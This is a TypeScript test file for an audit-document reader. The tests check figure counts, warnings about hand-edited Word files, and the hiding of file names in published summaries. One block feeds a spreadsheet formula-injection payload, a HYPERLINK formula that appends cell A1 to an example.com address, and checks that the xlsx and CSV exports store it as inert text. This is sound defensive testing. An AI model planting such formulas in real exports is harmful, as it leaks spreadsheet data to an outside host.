import { strFromU8, unzipSync } from "fflate";
import { dataOut, type DataFormat } from "../../src/collect/data-out";
import { readFiles, sourceOf } from "../../src/collect/read-files";
import { newDocx } from "../../src/docx/new-docx";
import { figures } from "../../src/overview/figures";
import { published } from "../../src/overview/published";
import { EMPTY_ITEM } from "../../src/audit/record";
import { FACT_TABLES } from "../../src/tables/tables";
import { workbook } from "../../src/xlsx/workbook";
import { aReading } from "../overview/a-reading";
import { ALL, dataOf } from "../tables/data-of";
import { encodeTemplate, TEMPLATE_NAMESPACE } from "../../src/record/template-part";
import { publishedWarningLines } from "../../src/report/overview-report/standing-part";
import { overviewText } from "../../src/report/overview-text";
import { aField, aFieldGroup, aTemplate, type RecordOverrides } from "../support/builders";
import { DocxEdits, editedDocx } from "../support/docx-edits";
import { paragraph, run } from "../support/docx-builder";

const template = aTemplate({
  fieldGroups: [
    aFieldGroup({
      fields: [
        aField(),
        aField({ id: "audit-date", label: "Audit date", type: "date" }),
        aField({ id: "team", label: "Team" }),
      ],
    }),
  ],
});
const JUDGEMENT = "item.risk.judgement";
const AS_OF = "2026-06-01";

/** An audit with these answers, as a person reads them, and what somebody did to its document. */
function aFile(
  name: string,
  texts: Readonly<Record<string, string>> = {},
  edit: (xml: DocxEdits) => DocxEdits = (xml) => xml,
) {
  const definition = { namespace: TEMPLATE_NAMESPACE, xml: encodeTemplate(template) };
  const docx = newDocx(
    template,
    [definition],
    new Map(Object.entries({ [JUDGEMENT]: "Meets good", ...texts })),
  );
  return { name, file: new File([new Uint8Array(editedDocx(docx, edit))], name, { lastModified: 0 }) };
}

async function found(...files: readonly ReturnType<typeof aFile>[]) {
  const { summary } = await readFiles(files, sourceOf([]), {
    now: () => 0,
    onProgress: () => undefined,
    isStopped: () => false,
  });
  return figures(summary, { asOf: AS_OF });
}

const CHANGED = (xml: DocxEdits) => new DocxEdits(xml.xml.replaceAll("Quality of plans", "Quality of plan"));

test.each<[string, ReturnType<typeof aFile>, string]>([
  [
    "labels edited by hand",
    aFile("K-1.docx", {}, CHANGED),
    "In 1 audit labels or notes were changed by hand; each answer counts for what the template asks there: K-1.docx.",
  ],
  [
    "words beside the answers",
    aFile("K-1.docx", {}, (xml) => xml.atEnd(paragraph(run("Meets good, I think.")))),
    "In 1 audit words stand outside every answer, and no figure counts them: K-1.docx.",
  ],
  [
    "an answer box deleted",
    aFile("K-1.docx", {}, (xml) => xml.replace("item.plans.evidence", "w:tr", "")),
    "1 audit has lost answer boxes, whose answers count as not entered: K-1.docx.",
  ],
])("%s: the audit counts, and is named", async (_, file, said) => {
  const all = await found(file, aFile("K-2.docx"));
  expect(all.audits).toBe(2);
  expect(all.templates[0]?.sections[0]).toMatchObject({ entered: 2, counts: { "meets-good": 2 } });
  expect(overviewText(all)).toContain(said);
  // Nobody outside learns whose it is.
  const shown = published(all);
  expect(JSON.stringify(shown)).not.toContain("K-1.docx");
  expect(publishedWarningLines(shown.warnings)).toContain(
    "Some documents are damaged or were changed beside their answers; what could be read counts.",
  );
});

test("a grade that the template does not know counts as not entered, and is named", async () => {
  const all = await found(
    aFile("K-1.docx", {}, (xml) => new DocxEdits(xml.xml.replaceAll(">Meets good<", ">Splendid<"))),
    aFile("K-2.docx"),
  );
  expect(all.templates[0]?.sections[0]).toMatchObject({
    entered: 1,
    notEntered: 1,
    counts: { "meets-good": 1 },
  });
  expect(overviewText(all)).toContain(
    "K-1.docx: what is entered is none of the choices and counts as not entered: Risk reduced.",
  );
});

describe("answers that a spreadsheet would make something else of", () => {
  const FORMULA = '=HYPERLINK("http://example.com/?"&A1,"See")';
  const LONG = "y".repeat(40_000);
  const files = [aFile("K-1.docx", { "header.team": FORMULA }), aFile("K-2.docx", { "header.team": LONG })];
  const parts = async (format: DataFormat) => {
    const bytes = await dataOut(files, sourceOf([]), { format, asOf: AS_OF, key: new Uint8Array(32) });
    return Object.entries(unzipSync(bytes)).map(([path, part]) => [path, strFromU8(part)] as const);
  };

  test("are words in the figures, and a name is no longer than one", async () => {
    expect((await found(...files)).templates[0]?.completeness.map(({ team }) => team)).toEqual(
      expect.arrayContaining([FORMULA, `${LONG.slice(0, 200)}…`]),
    );
  });

  test("are no formula in a workbook", async () => {
    const sheets = (await parts("xlsx")).filter(([path]) => path.startsWith("xl/"));
    expect(sheets.filter(([, text]) => /<f[ >]/.test(text))).toEqual([]);
    expect(sheets.map(([, text]) => text).join("")).toContain("=HYPERLINK(");
  });

  test("are no formula in a CSV file either", async () => {
    const audits = new Map(await parts("csv")).get("audits.csv") ?? "";
    expect(audits).toContain("HYPERLINK");
    expect(audits).not.toMatch(/(^|,|")=HYPERLINK/m);
  });

  test("of 40,000 characters are whole in the data that has narratives, and cut in a workbook's cell, which says so", async () => {
    const { answers = [] } = dataOf([aReading("K-1.docx", template, recordSaying(LONG))], ALL);
    expect(answers.flat()).toContain(LONG);
    const [, { columns } = { columns: [] }] = FACT_TABLES;
    const book = await workbook({ name: "about", lines: [] }, [{ name: "answers", columns, rows: answers }]);
    const all = Object.values(unzipSync(book)).map((part) => strFromU8(part));
    expect(all.join("")).toContain("[cut: 40000 characters in all]");
  });
});

const recordSaying = (evidence: string): RecordOverrides => ({
  items: { risk: { ...EMPTY_ITEM, judgement: "meets-good", evidence } },
});
